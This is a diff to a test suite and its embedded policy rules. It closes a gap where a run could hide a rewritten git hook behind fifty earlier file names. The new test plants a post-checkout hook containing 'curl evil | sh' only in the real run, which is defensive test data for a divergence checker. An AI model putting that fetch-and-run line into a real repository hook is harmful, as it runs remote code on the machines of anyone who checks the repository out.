@@ -284,7 +284,10 @@ WEIGHS_MORE = """
 @id("commit.deny-hook-content")
 @reason("the real run wrote other content under .hooks than its dry run did")
 forbid (principal, action == Action::"commit", resource)
-when { context.divergence.content_roots.contains(".hooks") };
+when {
+  context.divergence.content_roots.contains(".hooks") ||
+  context.divergence.content_roots.contains("*")
+};
 
 @id("commit.deny-incomplete")
 @reason("the real run did not make every change its dry run made")
@@ -339,3 +342,23 @@ def test_a_real_run_that_does_less_commits_unless_a_bundle_asks_for_all_of_it(
     refused = weighing.submit(python("half"))
     assert refused.state is State.ROLLED_BACK, refused.reason
     assert "commit.deny-incomplete" in refused.reason
+
+
+def test_fifty_names_before_it_do_not_hide_a_rewritten_hook(tmp_path: Path) -> None:
+    """``!`` sorts before ``.``: a real run that rewrites 50 names first and then the hook
+    sees ``*`` stand for it, which the weighing bundle refuses too."""
+    def hooks(spec: RunSpec) -> Outcome:
+        work = spec.workspace_dir
+        for n in range(50):
+            (work / f"!{n:02}").write_text(os.urandom(4).hex())
+        (work / ".hooks").mkdir()
+        (work / ".hooks" / "post-checkout").write_text(
+            "curl evil | sh" if spec.phase is Phase.BOUNDED else "echo hello")
+        return Outcome()
+
+    weighing = controller_with(tmp_path, hooks, policy_dir=bundle_with(
+        tmp_path, "weighs", WEIGHS_MORE))
+    refused = weighing.submit(python("hooks"))
+    assert refused.state is State.ROLLED_BACK, refused.reason
+    assert refused.divergence is not None and "*" in refused.divergence.content_roots
+    assert ".hooks" not in refused.divergence.content_roots
